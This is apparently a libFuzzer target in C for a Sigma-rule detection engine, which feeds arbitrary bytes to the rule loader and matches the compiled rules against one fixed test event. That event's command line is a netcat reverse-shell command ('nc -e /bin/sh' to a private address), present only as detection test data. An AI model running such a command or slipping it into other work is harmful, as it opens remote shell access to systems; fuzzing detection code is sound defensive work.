/*
 * fuzz_sigma.c - libFuzzer target: arbitrary bytes as Sigma YAML into the rule loader, and
 * every rule that loads compiled into an engine and matched against one fixed event, so
 * that the loader, the condition parser, the regex generation and the engine build all see
 * hostile input. Built by the lead's fuzz CMakeLists (VIG_FUZZ=ON) with vigdetect.
 */
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include "detect/detect.h"
#include "detect/sigma.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const char *const vals[] = {"root", "adm_*"};
	static const struct vig_sigma_placeholder ph[] = {{"Admins", vals, 2}};
	const struct vig_sigma_opts opts = {.placeholders = ph, .n_placeholders = 1, .max_bytes = 64 << 10};
	char err[VIG_ERRBUF_SIZE];
	struct vig_sigma_ruleset rs;
	struct vig_detect_engine *eng;
	struct vig_detect_scratch *s;
	struct vig_sigma_rule *r = vig_sigma_load((const char *)data, size, &opts, err);
	struct vig_arena arena;
	struct vig_event ev;

	if (!r)
		return 0;
	vig_sigma_ruleset_init(&rs, 16);
	if (vig_sigma_ruleset_add(&rs, r) != VIG_OK) {
		vig_sigma_ruleset_release(&rs);
		return 0;
	}
	eng = vig_detect_build(&rs, err);
	if (!eng)
		return 0;
	s = vig_detect_scratch_new(eng, err);
	if (s) {
		vig_arena_init(&arena, 4096, 1 << 20);
		vig_event_init(&ev, &arena);
		vig_event_set_cstr(&ev, VIG_F_AGENT_ID, "a");
		vig_event_set_cstr(&ev, VIG_F_EVENT_CATEGORY, "process");
		vig_event_set_cstr(&ev, VIG_F_PROCESS_EXECUTABLE, "/usr/bin/nc");
		vig_event_set_cstr(&ev, VIG_F_PROCESS_COMMAND_LINE, "nc -e /bin/sh 10.0.0.1 4444");
		vig_event_set_cstr(&ev, VIG_F_MESSAGE, "event::clear");
		vig_event_set_text(&ev, VIG_F_PROCESS_PID, "4242", 4);
		vig_event_set_text(&ev, VIG_F_DESTINATION_IP, "10.0.0.1", 8);
		vig_detect_match(eng, s, &ev, NULL, NULL, NULL);
		vig_arena_release(&arena);
		vig_detect_scratch_free(s);
	}
	vig_detect_free(eng);
	return 0;
}
